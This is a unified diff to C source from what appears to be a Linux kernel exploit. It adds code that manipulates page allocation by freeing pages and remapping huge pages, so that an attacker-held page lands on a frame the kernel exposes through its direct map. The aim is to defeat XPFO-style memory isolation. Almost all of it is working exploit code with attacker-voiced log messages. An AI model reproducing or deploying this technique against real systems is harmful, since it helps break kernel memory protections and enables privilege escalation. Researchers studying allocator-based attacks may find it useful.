@@ -1,10 +1,15 @@
 /*
- * Frames that go from the kernel to a program: which one comes next.
+ * Frames that go to a program: which one comes next, and is in the direct map until then. An
+ * attacker needs no more than the numbers of the frames that it has.
  *
- * 2 MiB pages come from halves of 4 MiB blocks. Where two of them were the halves of one block, no
- * half was left over; so the next page, if it is a lower half, comes from a block that was whole
- * until then, and its upper half is what the page after it will get. An attacker needs no more than
- * the numbers of the frames that it has.
+ * The frame freed last is handed out first, unless it joins its neighbour; so who has both of two
+ * neighbours and gives the upper one back gets that one next. It is tried with 4 KiB pages first.
+ *
+ * 2 MiB pages come from halves of 4 MiB blocks. Who has both halves of one and gives the upper one
+ * back gets that one next: it cannot join its neighbour. Most variants of XPFO put what is given
+ * back into the direct map. With the others, where two pages were the halves of one block, no half
+ * was left over; so the next page, if it is a lower half, comes from a block that was whole until
+ * then, and its upper half, which the kernel has, is what the page after it will get.
  */
 #include <sys/mman.h>
 
@@ -16,9 +21,13 @@ enum {
 	FRAMES_PER_BLOCK = 2 * FRAMES_PER_HUGE,
 	CHOSEN_FRAME = 300, /* any but the first ones */
 	SHARE_LEFT = 8,
+	HALVES_MAX = 16,
+	NR_SMALL = 16,
+	NR_REHEARSALS = 2,
 };
 
 struct huge_page {
+	void *address;
 	uint64_t pfn;
 	bool was_revealed; /* it came out of the direct map for this */
 };
@@ -32,23 +41,39 @@ static bool enough_is_revealed(void)
 	       info.nr_free_revealed + info.nr_free_hidden > info.nr_frames_usable / SHARE_LEFT;
 }
 
-static struct huge_page huge_page_take(void **address)
+static struct huge_page huge_page_take(void)
 {
 	uint64_t before = memory_now().nr_free_revealed;
-	uint64_t pfn;
+	struct huge_page page = { .address = attack_huge_page() };
 
-	*address = attack_huge_page();
-	pfn = attack_pfn(*address);
-	return (struct huge_page){ pfn, memory_now().nr_free_revealed + FRAMES_PER_HUGE <= before };
+	page.pfn = attack_pfn(page.address);
+	page.was_revealed = memory_now().nr_free_revealed + FRAMES_PER_HUGE <= before;
+	return page;
+}
+
+/* True where it is in the direct map again. */
+static bool give_back(const struct huge_page *page)
+{
+	uint64_t before = memory_now().nr_free_revealed;
+
+	munmap(page->address, BW_HUGE_PAGE_SIZE);
+	return memory_now().nr_free_revealed >= before + FRAMES_PER_HUGE;
 }
 
 static void choose(const struct bw_leak *leak, uint64_t first_pfn, struct attack_frame *frame)
 {
 	frame->pfn = first_pfn + CHOSEN_FRAME;
 	frame->synonym = leak->direct_map_base + frame->pfn * BW_PAGE_SIZE;
+	frame->is_small = false;
 }
 
 static bool is_lower_half(uint64_t pfn) { return pfn % FRAMES_PER_BLOCK == 0; }
+
+static bool are_halves(const struct huge_page *lower, const struct huge_page *upper)
+{
+	return lower->address && is_lower_half(lower->pfn) &&
+	       upper->pfn == lower->pfn + FRAMES_PER_HUGE;
+}
 
 /* True where the one before the latest completed a block, and the latest began one. */
 static bool is_block_begun(const struct huge_page latest[3])
@@ -58,36 +83,136 @@ static bool is_block_begun(const struct huge_page latest[3])
 			return false;
 		}
 	}
-	return is_lower_half(latest[0].pfn) && is_lower_half(latest[2].pfn) &&
-	       latest[1].pfn == latest[0].pfn + FRAMES_PER_HUGE;
+	return are_halves(&latest[0], &latest[1]) && is_lower_half(latest[2].pfn);
 }
 
-void attack_frame_predict(const struct bw_leak *leak, struct attack_frame *frame)
+/* With variants that leave hidden what user space had. False: hardly anything else is left. */
+static bool predict_kernels(const struct bw_leak *leak, struct attack_frame *frame)
 {
 	struct huge_page latest[3] = { { 0 } };
-	void *address;
 
 	do {
 		latest[0] = latest[1];
 		latest[1] = latest[2];
-		latest[2] = huge_page_take(&address);
+		latest[2] = huge_page_take();
 		if (is_block_begun(latest)) {
 			choose(leak, latest[2].pfn + FRAMES_PER_HUGE, frame);
 			attack_say("frame 0x%lx is the kernel's, and will be ours next",
 				   frame->pfn);
-			return;
+			return true;
 		}
 	} while (enough_is_revealed());
-	munmap(address, BW_HUGE_PAGE_SIZE);
-	choose(leak, latest[2].pfn, frame);
-	attack_say("frame 0x%lx was ours, is free, and will be ours again", frame->pfn);
+	return false;
+}
+
+/* Pages that were given back: the first one last, which is the one that matters. */
+static char *given[NR_SMALL];
+static size_t nr_given;
+
+static bool is_among(char *pages, uint64_t pfn)
+{
+	for (size_t i = 0; i < NR_SMALL; i++) {
+		if (attack_pfn(pages + i * BW_PAGE_SIZE) == pfn) {
+			return true;
+		}
+	}
+	return false;
+}
+
+/* Those whose frame is the upper one of two neighbours, of which the lower one is ours, too. */
+static void choose_uppers(char *pages)
+{
+	nr_given = 0;
+	for (size_t i = 0; i < NR_SMALL; i++) {
+		char *page = pages + i * BW_PAGE_SIZE;
+
+		if (attack_pfn(page) % 2 == 1 && is_among(pages, attack_pfn(page) - 1)) {
+			given[nr_given++] = page;
+		}
+	}
+}
+
+/* True where there is one frame more in the direct map. */
+static bool page_release(char *page)
+{
+	uint64_t before = memory_now().nr_free_revealed;
+
+	madvise(page, BW_PAGE_SIZE, MADV_DONTNEED);
+	return memory_now().nr_free_revealed > before;
+}
+
+static bool page_gets(char *page, uint64_t pfn)
+{
+	*(volatile char *)page = 0;
+	return attack_pfn(page) == pfn;
+}
+
+/* What others need meanwhile comes from the frames that were given back behind it. */
+static void *small_take(uint64_t pfn)
+{
+	while (nr_given > 0) {
+		nr_given--;
+		if (page_gets(given[nr_given], pfn)) {
+			return given[nr_given];
+		}
+	}
+	return NULL;
+}
+
+bool attack_frame_give_small(const struct bw_leak *leak, struct attack_frame *frame)
+{
+	uint64_t pfn;
+
+	choose_uppers(attack_pages(NR_SMALL * BW_PAGE_SIZE));
+	if (nr_given < NR_SMALL / 4) {
+		return false;
+	}
+	pfn = attack_pfn(given[0]);
+	for (int i = 0; i < NR_REHEARSALS; i++) {
+		if (!page_release(given[0]) || !page_gets(given[0], pfn)) {
+			return false;
+		}
+	}
+	*frame = (struct attack_frame){ pfn, leak->direct_map_base + pfn * BW_PAGE_SIZE, true };
+	attack_say("frame 0x%lx was ours, is free, and will be ours again", pfn);
+	for (size_t i = 0; i < nr_given; i++) {
+		page_release(given[i]);
+	}
+	return true;
+}
+
+void attack_frame_find(const struct bw_leak *leak, struct attack_frame *frame)
+{
+	if (!attack_frame_give_small(leak, frame)) {
+		attack_frame_predict(leak, frame);
+	}
+}
+
+void attack_frame_predict(const struct bw_leak *leak, struct attack_frame *frame)
+{
+	struct huge_page lower, upper = { 0 };
+	int nr = 0;
+
+	do {
+		lower = upper;
+		upper = huge_page_take();
+	} while (!are_halves(&lower, &upper) && ++nr < HALVES_MAX);
+	choose(leak, upper.pfn, frame);
+	if (give_back(&upper) || !predict_kernels(leak, frame)) {
+		attack_say("frame 0x%lx was ours, is free, and will be ours again", frame->pfn);
+	}
 }
 
 void *attack_frame_take(const struct attack_frame *frame)
 {
-	char *page = attack_huge_page();
-	uint64_t first = attack_pfn(page);
+	uint64_t first;
+	char *page;
 
+	if (frame->is_small) {
+		return small_take(frame->pfn);
+	}
+	page = attack_huge_page();
+	first = attack_pfn(page);
 	if (frame->pfn < first || frame->pfn >= first + FRAMES_PER_HUGE) {
 		return NULL;
 	}
